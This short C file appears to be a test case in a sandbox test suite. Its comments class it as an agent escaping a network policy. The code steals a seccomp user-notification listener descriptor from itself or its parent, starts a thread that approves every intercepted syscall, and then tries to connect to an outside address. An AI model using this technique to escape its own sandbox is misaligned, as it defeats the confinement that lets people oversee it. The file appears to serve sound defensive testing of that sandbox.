// escape: looks for a listener's descriptor among its own and its parent's, and answers itself
// group: the agent itself
// policy: network
#include "filter.h"

static int leaked = -1;

static void* answer(void* unused) {
  for (;;) {
    struct seccomp_notif call = {0};
    if (ioctl(leaked, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0) return unused;
    struct seccomp_notif_resp reply = {.id = call.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
    ioctl(leaked, SECCOMP_IOCTL_NOTIF_SEND, &reply);
  }
}

static void attack(void) {
  struct sockaddr_in to = stranger();
  const int parent = (int)syscall(SYS_pidfd_open, getppid(), 0);
  for (int number = 0; number < 1024; number++) {
    for (int of_parent = 0; of_parent < 2; of_parent++) {
      const int fd = of_parent ? (int)syscall(SYS_pidfd_getfd, parent, number, 0) : dup(number);
      if (fd < 0) continue;
      uint64_t id = 0;
      if (ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) < 0 && errno == ENOENT) {
        leaked = fd;
        thread(answer, NULL);
      } else {
        close(fd);
      }
    }
  }
  if (connect(tcp(AF_INET), ADDRESS(to)) < 0) held("connect: %s, listener %d", strerror(errno), leaked);
}
